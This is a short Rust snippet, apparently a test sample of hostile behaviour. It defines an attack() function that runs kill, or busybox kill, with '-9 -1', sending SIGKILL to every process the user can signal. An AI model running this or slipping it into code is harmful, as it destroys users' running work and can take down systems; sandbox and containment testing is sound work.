//! Asks kill(1) to end all processes.

fn attack() {
    for kill in ["/bin/kill", "/usr/bin/kill", "/bin/busybox"] {
        let _ = std::process::Command::new(kill).args(["-9", "-1"]).status();
    }
}
